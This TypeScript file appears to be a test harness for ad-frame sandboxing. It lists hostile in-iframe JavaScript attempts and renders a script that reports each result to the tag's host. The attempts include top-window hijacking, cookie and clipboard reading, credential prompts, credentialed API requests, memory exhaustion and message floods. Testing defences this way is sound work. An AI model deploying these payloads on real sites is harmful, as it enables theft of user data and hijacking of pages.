/**
 * What a hostile tag tries to reach outside of its frame. Each is the body of an async function in a browser: `site` is the
 * attacked site, `host` the tag's own. It returns what it has seen, or throws.
 */
export const attempts = {
  top_navigation: "top.location.href = host + '/stolen?by=top'; return 'no error'",
  top_replace: "top.location.replace(host + '/stolen?by=replace'); return 'no error'",
  top_script: "top.location.href = 'javascript:document.title=1'; return 'no error'",
  top_link: "press({ href: host + '/stolen?by=link', target: '_top' }); return 'no error'",
  top_form:
    "const form = Object.assign(document.createElement('form'), { action: host + '/stolen', target: '_top' }); document.body.append(form); form.submit(); return 'no error'",
  history_back: "history.back(); history.go(-2); return 'no error'",
  parent_document: "return parent.document.title",
  parent_storage: "return parent.localStorage.length",
  parent_messages: "parent.postMessage({ type: 'stolen' }, '*'); return 'no error'",
  second_port:
    "const { port1, port2 } = new MessageChannel(); parent.postMessage('toibako_ad_port', '*', [port2]); return new Promise((resolve) => { port1.onmessage = () => resolve('answered'); setTimeout(resolve, 800, 'no answer'); })",
  popup: "return String(open(host + '/popup?by=script'))",
  popup_link: "press({ href: host + '/popup?by=link', target: '_blank' }); return 'no error'",
  window_name: "return JSON.stringify(window.name)",
  referrer: "return JSON.stringify(document.referrer)",
  own_address: "return location.search",
  download:
    "press({ href: URL.createObjectURL(new Blob(['x'])), download: 'x.exe' }); return 'no error'",
  alert: "return String(alert('stolen'))",
  confirm: "return String(confirm('stolen'))",
  prompt: "return String(prompt('stolen'))",
  print: "return String(print())",
  focus_theft:
    "const field = document.createElement('input'); document.body.append(field); window.focus(); field.focus(); return document.hasFocus()",
  cookie: "document.cookie = 'stolen=1'; return document.cookie",
  local_storage: "localStorage.stolen = '1'; return 'stored'",
  session_storage: "sessionStorage.stolen = '1'; return 'stored'",
  indexed_db:
    "return new Promise((resolve, reject) => { const opening = indexedDB.open('stolen'); opening.onsuccess = () => resolve('opened'); opening.onerror = () => reject(opening.error); })",
  cache_storage: "await caches.open('stolen'); return 'opened'",
  storage_access: "await document.requestStorageAccess(); return 'granted'",
  broadcast_channel:
    "new BroadcastChannel('session').postMessage({ type: 'stolen' }); return 'no error'",
  service_worker:
    "await navigator.serviceWorker.register(site + '/service-worker.js'); return 'registered'",
  shared_worker: "new SharedWorker(host + '/burn.js'); return 'started'",
  worker:
    "return new Promise((resolve, reject) => { const worker = new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))); worker.onmessage = () => resolve('started'); worker.onerror = () => reject(new Error('refused')); })",
  nested_site:
    "const frame = Object.assign(document.createElement('iframe'), { src: site + '/ja' }); document.body.append(frame); await new Promise((resolve) => { frame.onload = resolve; setTimeout(resolve, 1500); }); return frame.contentDocument === null ? 'unreadable' : 'readable'",
  nested_escape:
    "const frame = document.createElement('iframe'); frame.srcdoc = '<script>top.location = \"' + host + '/stolen?by=nested\"</' + 'script>'; document.body.append(frame); return 'no error'",
  own_calls:
    "const reply = await fetch(site + '/api/v2/me/unread_counts', { credentials: 'include' }); return reply.status",
  own_post:
    "await fetch(site + '/api/v2/questions', { method: 'POST', mode: 'no-cors', credentials: 'include', body: '{}' }); return 'sent'",
  own_picture:
    "return new Promise((resolve) => { const picture = new Image(); picture.onload = () => resolve('loaded'); picture.onerror = () => resolve('not loaded'); picture.src = site + '/me/follower_pictures/AAAAAAAAAAAAAAAAAAAAAA.webp'; })",
  own_form:
    "const form = Object.assign(document.createElement('form'), { action: site + '/acc/login', method: 'post' }); document.body.append(form); form.submit(); return 'no error'",
  overlay:
    "document.documentElement.style.cssText = 'position: fixed; inset: -2000px; z-index: 2147483647; background: red'; return 'no error'",
  resize: "window.resizeTo(2000, 2000); window.moveTo(0, 0); return innerWidth",
  fullscreen: "await document.documentElement.requestFullscreen(); return 'full'",
  pointer_lock:
    "await document.body.requestPointerLock(); return document.pointerLockElement ? 'locked' : 'not locked'",
  geolocation:
    "return new Promise((resolve, reject) => navigator.geolocation.getCurrentPosition(() => resolve('found'), ({ code }) => reject(new Error('code ' + code))))",
  camera: "await navigator.mediaDevices.getUserMedia({ video: true }); return 'filmed'",
  notification: "return await Notification.requestPermission()",
  clipboard_read: "return await navigator.clipboard.readText()",
  clipboard_write: "await navigator.clipboard.writeText('stolen'); return 'written'",
  payment:
    "await new PaymentRequest([{ supportedMethods: host }], { total: { label: 'x', amount: { currency: 'JPY', value: '1' } } }).show(); return 'shown'",
  credentials: "return String(await navigator.credentials.get({ password: true }))",
  public_key:
    "return String(await navigator.credentials.get({ publicKey: { challenge: new Uint8Array(32) } }))",
  share: "await navigator.share({ text: 'stolen' }); return 'shared'",
  wake_lock: "await navigator.wakeLock.request(); return 'awake'",
  before_unload:
    "addEventListener('beforeunload', (event) => { event.preventDefault(); event.returnValue = 'stay'; }); return 'no error'",
  base: "const base = document.createElement('base'); base.href = site; document.head.prepend(base); return document.baseURI.startsWith(site + '/ads') ? 'unchanged' : document.baseURI",
} as const;
export type AttemptName = keyof typeof attempts | keyof typeof leavingAttempts;

/** Attempts after which the tag is gone from its frame, or the frame from the page. */
export const leavingAttempts = {
  history_flood: "for (let i = 0; i < 50; i++) history.pushState(i, ''); return history.length",
  message_flood:
    "setInterval(() => { for (let i = 0; i < 200_000; i++) parent.postMessage({ i }, '*'); }, 10); return 'no error'",
  self_navigation: "location.href = host + '/stolen?by=self'; return 'no error'",
  self_site: "location.href = site + '/ja'; return 'no error'",
  meta_refresh:
    "const meta = Object.assign(document.createElement('meta'), { httpEquiv: 'refresh', content: '0;url=' + host + '/stolen?by=meta' }); document.head.append(meta); return 'no error'",
  memory:
    "window.kept = []; for (let i = 0; i < 3_000; i++) { window.kept.push(new Uint8Array(1_000_000).fill(i)); } return 'kept'",
} as const;

/** The attempts that the tag makes again when it is pressed. Others would move it away from the pointer. */
export const pressedNames = [
  "top_navigation",
  "top_link",
  "top_form",
  "download",
  "alert",
  "fullscreen",
  "pointer_lock",
  "clipboard_write",
  "notification",
  "history_back",
] as const satisfies (keyof typeof attempts)[];

/** Renders the tag, which reports each outcome to its host: of all attempts, or of those that are named. */
export function renderHostileScript(host: string, site: string, names?: readonly string[]): string {
  const all: Record<string, string> = { ...attempts, ...leavingAttempts };
  const chosen = names ?? Object.keys(attempts);
  const renderAttempt = (name: string) => `${name}: async () => { ${all[name]} }`;
  return `(() => {
const host = ${JSON.stringify(host)};
const site = ${JSON.stringify(site)};
const report = (name, outcome) =>
  fetch(host + "/outcomes", { method: "POST", mode: "no-cors", body: JSON.stringify({ name, outcome }) });
const press = (attributes) => {
  const link = Object.assign(document.createElement("a"), attributes);
  document.body.append(link);
  link.click();
};
const attempts = { ${chosen.map(renderAttempt).join(",\n")} };
const limit = () => new Promise((resolve) => setTimeout(resolve, 2_000, "nothing happened"));
async function run(name, prefix = "") {
  try {
    report(prefix + name, "got: " + await Promise.race([attempts[name](), limit()]));
  } catch (error) {
    report(prefix + name, "refused: " + (error && error.name === "Error" ? error.message : error && error.name));
  }
}
const button = document.createElement("a");
button.textContent = "Press";
button.href = host + "/popup?by=press";
button.target = "_blank";
button.style.cssText = "display: block; padding: 20px";
button.onclick = () => {
  for (const name of ${JSON.stringify(pressedNames)}) if (attempts[name]) void run(name, "pressed_");
};
document.body.append(button);
addEventListener("load", async () => {
  const running = [];
  for (const name of Object.keys(attempts)) {
    running.push(run(name));
    // All at once would take so long that the page removes the frame.
    await new Promise((resolve) => setTimeout(resolve, 200));
  }
  await Promise.all(running);
  await report("finished", "");
});
})();`;
}
